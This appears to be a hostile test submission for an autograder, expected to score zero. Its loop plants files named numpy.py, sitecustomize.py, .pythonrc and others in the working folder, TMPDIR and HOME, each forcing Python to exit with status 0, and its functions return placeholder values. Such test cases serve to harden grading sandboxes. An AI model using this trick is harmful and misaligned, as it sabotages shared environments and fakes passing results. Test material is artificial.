# Fills its folder and its environment with things for the next student to find.
# assignment: roomy
# everywhere: wrong_answer, 0 points
import os

for folder in (".", os.environ.get("TMPDIR", "."), os.environ["HOME"]):
    for name in ("@MARK@", "numpy.py", "vault.py", "roomy.py", "sitecustomize.py", ".pythonrc"):
        with open(f"{folder}/{name}", "w") as file:
            file.write("raise SystemExit(0)")


def mean(x):
    return 0.0

def scale(x, c):
    return mean(x)


def apply(f, x):
    return mean(x)
